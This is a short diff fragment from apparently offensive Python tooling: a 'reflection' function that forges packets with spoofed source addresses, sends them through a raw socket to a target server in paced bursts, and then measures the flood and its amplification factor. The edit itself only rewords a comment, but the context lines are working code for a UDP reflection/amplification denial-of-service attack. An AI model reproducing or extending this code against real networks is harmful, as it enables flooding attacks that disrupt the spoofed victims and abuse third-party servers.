@@ -72,7 +72,7 @@ def reflection(target: AttackTarget, *, wait_s: float = REFLECTION_WAIT_S) -> At
             source = (hosts[number % len(hosts)], ports[number // len(hosts)])
             raw.sendto(forged(source, target.server, request), (target.server[0], 0))
             if number % _BURST == 0:
-                select.select([], [], [], 0.002)  # else the kernel's queue would be the defence
+                select.select([], [], [], 0.002)  # otherwise the kernel's queue would be the defence
         flood = _weighed(ears, wait_s)
     sent = count * (len(request) + UDP_AND_IP_BYTES)
     lone_factor = lone[1] / (len(request) + UDP_AND_IP_BYTES)
